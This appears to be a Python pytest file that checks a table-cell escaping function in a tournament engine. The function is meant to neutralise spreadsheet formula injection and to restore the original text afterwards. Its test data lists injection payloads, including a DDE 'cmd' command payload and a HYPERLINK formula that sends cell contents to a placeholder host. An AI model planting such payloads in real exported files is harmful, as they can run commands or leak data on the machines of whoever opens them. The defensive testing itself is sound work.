"""Cells of tables: no spreadsheet runs them, and they are read back as they were."""

import pytest

from tournament_engine.text import original_cell, safe_cell

RUN = [
    "=1+1",
    "+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n",
    "  =1",
    '=HYPERLINK("http://x.invalid?"&A1,"x")',
    "\uff1d1+1",
]
HARMLESS = ['a,b"c', "-12.50", "+4", "name\n=1+1", "Ann", "", "'", "'Ann"]


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_would_run_is_kept_text(text: str):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_is_as_it_was(text: str):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", RUN + HARMLESS)
def test_a_cell_is_read_back_as_it_was(text: str):
    assert original_cell(str(safe_cell(text))) == text


def test_numbers_stay_numbers():
    assert [safe_cell(value) for value in (7, -7, None)] == [7, -7, ""]
